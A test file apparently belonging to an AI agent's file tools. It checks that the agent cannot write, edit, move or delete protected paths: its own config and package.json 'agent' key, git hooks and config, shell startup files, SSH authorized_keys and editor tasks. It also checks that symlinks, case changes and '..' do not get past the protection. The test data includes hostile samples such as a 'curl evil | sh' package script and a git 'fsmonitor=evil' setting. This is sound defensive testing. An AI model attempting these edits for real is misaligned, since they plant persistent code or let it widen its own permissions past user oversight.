import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { fileTools, temporaryDirectory } from "../test/support.js";
import { ALWAYS_PROTECTED, PROTECTED_IN_ROOT } from "./protect.js";

const CONFIGS = [
  "agent.config.ts",
  "agent.config.js",
  "agent.config.mjs",
  "agent.config.json",
  "agent.config.yaml",
];
const GIT = [
  ".git/hooks/pre-commit",
  ".git/config",
  ".git/hooks",
  ".git",
  ".git/commondir",
  ".git/worktrees/x/commondir",
];
const PERSISTENT = [
  ".vscode/tasks.json",
  ".bashrc",
  ".zshenv",
  ".profile",
  ".ssh/authorized_keys",
  ".husky/pre-commit",
  ".envrc",
];

test.each([...CONFIGS, ...GIT])(
  "C89, C166: %s is protected, also when it does not exist yet and without a root",
  async (name) => {
    const directory = temporaryDirectory();
    const text = await fileTools()("write_file", { path: join(directory, name), content: "x" });
    expect(text).toMatch(
      /is protected by the rule ".*": nothing was changed\. Only the user can lift it.*"protect"/,
    );
    expect(readdirSync(directory)).toEqual([]);
  },
);

test.each([...CONFIGS, ...GIT, ...PERSISTENT])(
  "C89: with a root, %s is protected in every directory",
  async (name) => {
    const root = temporaryDirectory();
    const run = fileTools({ root });
    expect(await run("write_file", { path: join(root, name), content: "x" })).toContain("is protected by");
    expect(await run("write_file", { path: join(root, "sub", name), content: "x" })).toContain(
      "is protected by",
    );
    expect(readdirSync(root)).toEqual([]);
  },
);

test("C89: a link cannot be moved to where package.json is, since its target could say anything", async () => {
  const root = temporaryDirectory();
  writeFileSync(join(root, "other.json"), '{ "scripts": { "postinstall": "evil" } }');
  symlinkSync("other.json", join(root, "link"));
  const move = { source: join(root, "link"), destination: join(root, "package.json"), overwrite: true };
  expect(await fileTools({ root })("move", move)).toContain("is protected by the rule");
  expect(readdirSync(root).sort()).toEqual(["link", "other.json"]);
});

test("C89: package scripts and the agent's own key cannot be changed, the rest of package.json can", async () => {
  const root = temporaryDirectory();
  const path = join(root, "package.json");
  const original = '{\n  "name": "x",\n  "scripts": { "test": "vitest" }\n}\n';
  writeFileSync(path, original);
  const run = fileTools({ root });
  const edit = (old_text: string, new_text: string) => run("edit_file", { path, old_text, new_text });
  expect(await edit('"vitest"', '"curl evil | sh"')).toContain('the rule "package.json#scripts"');
  expect(await edit('"name": "x"', '"name": "x", "agent": { "enable": ["run_bash"] }')).toContain(
    "package.json#agent",
  );
  const evil = '{"scripts":{"postinstall":"evil"}}';
  expect(await run("write_file", { path, content: evil })).toContain("package.json#scripts");
  expect(await run("write_file", { path: join(root, "new/package.json"), content: evil })).toContain(
    "package.json#scripts",
  );
  await run("write_file", { path: join(root, "other.json"), content: evil });
  const moved = await run("move", { source: join(root, "other.json"), destination: path, overwrite: true });
  expect(moved).toContain("package.json#scripts");
  expect(readFileSync(path, "utf8")).toBe(original);
  expect(await edit('"name": "x"', '"name": "y"')).toContain("Edited");
});

test("C166: the agent's key in package.json is protected without a root too", async () => {
  const path = join(temporaryDirectory(), "package.json");
  const run = fileTools();
  expect(await run("write_file", { path, content: '{"agent":{}}' })).toContain("package.json#agent");
  expect(await run("write_file", { path, content: '{"scripts":{"test":"x"}}' })).toContain("Created");
});

test("no tool gets round it: links, case, .., moving in, moving away, removing", async () => {
  const root = temporaryDirectory();
  mkdirSync(join(root, ".git/hooks"), { recursive: true });
  writeFileSync(join(root, ".git/config"), "[core]");
  mkdirSync(join(root, "evil/hooks"), { recursive: true });
  writeFileSync(join(root, "evil/hooks/pre-commit"), "");
  writeFileSync(join(root, "file"), "");
  symlinkSync(".git/hooks", join(root, "link"));
  symlinkSync("agent.config.ts", join(root, "dangling"));
  const run = fileTools({ root });
  const at = (name: string): string => join(root, name);
  const attempts: [string, Record<string, unknown>][] = [
    ["write_file", { path: at("link/pre-commit"), content: "x" }],
    ["write_file", { path: at("dangling"), content: "x" }],
    ["write_file", { path: at(".GIT/Hooks/pre-commit"), content: "x" }],
    ["write_file", { path: at("sub/../.git/hooks/x"), content: "x" }],
    ["edit_file", { path: at(".git/config"), old_text: "[core]", new_text: "[core]\nfsmonitor=evil" }],
    ["mkdir", { path: at(".git/hooks/sub") }],
    ["mkdir", { path: at("sub/.vscode") }],
    ["move", { source: at("file"), destination: at(".git/hooks") }],
    ["move", { source: at("file"), destination: at("agent.config.ts") }],
    ["move", { source: at("evil/hooks"), destination: at(".git") }],
    ["move", { source: at("evil"), destination: at("sub/.git") }],
    ["move", { source: at(".git"), destination: at("away") }],
    ["move", { source: at(".git/config"), destination: at("away") }],
    ["remove", { path: at(".git/config") }],
    ["remove", { path: at(".git/hooks") }],
    ["remove", { path: at(".git") }],
  ];
  for (const [name, args] of attempts) {
    expect(await run(name, args), `${name} ${JSON.stringify(args)}`).toContain("is protected by");
  }
  expect(readdirSync(root).sort()).toEqual([".git", "dangling", "evil", "file", "link"]);
  expect(readFileSync(at(".git/config"), "utf8")).toBe("[core]");
});

test("the place a protected name links to is protected as well", async () => {
  const root = temporaryDirectory();
  mkdirSync(join(root, ".git"));
  mkdirSync(join(root, "hooks"));
  symlinkSync("../hooks", join(root, ".git/hooks"));
  const text = await fileTools({ root })("write_file", {
    path: join(root, "hooks/pre-commit"),
    content: "x",
  });
  expect(text).toContain('the rule ".git/hooks"');
});

test("what is only named alike is not protected, and reading never is", async () => {
  const root = temporaryDirectory();
  mkdirSync(join(root, ".git/hooks"), { recursive: true });
  writeFileSync(join(root, ".git/config"), "[core]");
  const run = fileTools({ root });
  expect(await run("read_file", { path: join(root, ".git/config") })).toBe("[core]");
  for (const name of [
    "my-agent.config.ts",
    "agent.config.ts.md",
    ".git/info/exclude",
    ".gitignore",
    "git/config",
    ".github/x",
  ]) {
    expect(await run("write_file", { path: join(root, name), content: "x" }), name).toContain("Created");
  }
});

test("the user's list replaces the built-in one and is relative to the root", async () => {
  const root = temporaryDirectory();
  const run = fileTools({ root, protect: ["secrets", "sub/file.txt"] });
  const write = (name: string) => run("write_file", { path: join(root, name), content: "x" });
  expect(await write("secrets/a")).toContain('the rule "secrets"');
  expect(await write("sub/file.txt")).toContain('the rule "sub/file.txt"');
  expect(await write("sub/secrets/a")).toContain("Created");
  expect(await write("agent.config.ts")).toContain("Created");
  const lifted = fileTools({ root, protect: [] });
  expect(await lifted("write_file", { path: join(root, "secrets/a"), content: "x" })).toContain("Created");
  expect(existsSync(join(root, "secrets/a"))).toBe(true);
});

test("one built-in rule can be lifted, and the others keep their meaning", async () => {
  const root = temporaryDirectory();
  const all = [...ALWAYS_PROTECTED, ...PROTECTED_IN_ROOT];
  const run = fileTools({ root, protect: all.filter((rule) => rule !== "package.json#scripts") });
  const write = (name: string, content: string) => run("write_file", { path: join(root, name), content });
  expect(await write("package.json", '{"scripts":{"test":"x"}}')).toContain("Created");
  expect(await write("package.json", '{"agent":{}}')).toContain("package.json#agent");
  expect(await write("sub/.git/hooks/x", "")).toContain('the rule ".git/hooks"');
});
